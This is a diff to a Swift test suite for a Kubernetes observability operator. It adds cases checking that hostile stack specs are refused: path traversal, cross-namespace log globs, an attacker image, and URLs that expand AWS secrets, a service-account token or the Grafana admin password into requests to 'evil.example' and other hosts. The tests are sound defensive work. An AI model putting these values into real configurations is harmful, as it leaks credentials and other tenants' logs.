@@ -27,6 +27,15 @@ import Testing
         ("same-namespace", "  ingest:\n    basicAuth:\n      clients: [{name: a, namespace: x}, {name: b, namespace: x}]\n", "spec.ingest.basicAuth.clients[1].namespace"),
         ("wrong-type", "  sampling: {percentage: lots}\n", "spec.sampling.percentage"),
         ("huge-string", "  collector:\n    image: \(String(repeating: "x", count: 300_000))\n", "spec.collector.image"),
+        // Tenancy (issue 16): other namespaces' logs, paths out of the log directory, and
+        // `$` expansions the collector or Grafana would perform.
+        ("log-glob-foreign", "  collector:\n    fileLogs: {include: [/var/log/pods/*/*/*.log]}\n", "spec.collector.fileLogs.include[0]"),
+        ("log-glob-escape", "  collector:\n    fileLogs: {include: [/var/log/pods/hostile_*/../../../../etc/*]}\n", "spec.collector.fileLogs.include[0]"),
+        ("expansion-env", "  exporters:\n    loki: {endpoint: \"https://loki.example.com/${env:AWS_SECRET_ACCESS_KEY}\"}\n", "spec.exporters.loki.endpoint"),
+        ("expansion-file", "  exporters:\n    remoteWrite: {url: \"https://mimir.example.com/${file:/var/run/secrets/kubernetes.io/serviceaccount/token}\"}\n", "spec.exporters.remoteWrite.url"),
+        ("foreign-image", "  collector:\n    image: attacker/collector:latest\n", "spec.collector.image"),
+        ("tolerate-all", "  collector:\n    tolerations: [{operator: Exists}]\n", "spec.collector.tolerations[0]"),
+        ("expansion-grafana", "  grafana: {prometheusURL: \"https://evil.example/$GF_SECURITY_ADMIN_PASSWORD\"}\n", "spec.grafana.prometheusURL"),
     ]
 
     @Test func hostileStacksAreRefusedNamingTheFieldAndCauseNoReconcileLoop() async throws {
@@ -79,6 +88,33 @@ import Testing
             // for a change.
             #expect(during <= Double(2 * accepted.count), "\(during) reconciles in a minute for \(accepted.count) invalid stacks")
             #expect(vigil.isRunning)
+
+            // A running stack edited into a hostile one: refused, and its collectors are
+            // left exactly as they were.
+            try await plane.kubectl("apply", "-f", "-", input: stackYAML(name: "steady", namespace: ns, environment: "staging"))
+            _ = try await eventually("steady Ready") { () -> Bool? in
+                try await plane.getIfExists(ObservabilityStack.self, ns, "steady")?.status?.condition("Ready")?.isTrue == true ? true : nil
+            }
+            let cm = try #require(try await plane.getIfExists(ConfigMap.self, ns, "steady-collector"))
+            func dsVersion() async throws -> String {
+                try await plane.kubectl("get", "daemonset", "steady-collector", "-n", ns, "-o", "jsonpath={.metadata.resourceVersion}")
+            }
+            let ds = try await dsVersion()
+            #expect(!ds.isEmpty)
+            for (patch, field) in [
+                (#"{"spec":{"collector":{"fileLogs":{"include":["/var/log/pods/kube-system_*/*/*.log"]}}}}"#, "spec.collector.fileLogs.include[0]"),
+                (#"{"spec":{"collector":{"fileLogs":null},"exporters":{"loki":{"endpoint":"https://loki.example.com/${env:K8S_POD_NAME}"}}}}"#, "spec.exporters.loki.endpoint"),
+            ] {
+                try await plane.kubectl("patch", "observabilitystack", "steady", "-n", ns, "--type=merge", "-p", patch)
+                let message = try await eventually("the hostile edit refused") { () -> String? in
+                    let s = try await plane.getIfExists(ObservabilityStack.self, ns, "steady")
+                    guard s?.status?.observedGeneration == s?.metadata.generation, s?.status?.condition("Ready")?.isTrue == false else { return nil }
+                    return s?.status?.condition("ConfigValid")?.message
+                }
+                #expect(message.contains(field), "\(message)")
+                #expect(try await plane.getIfExists(ConfigMap.self, ns, "steady-collector")?.metadata.resourceVersion == cm.metadata.resourceVersion)
+                #expect(try await dsVersion() == ds)
+            }
             #expect(await vigil.terminate() == 0)
         }
     }
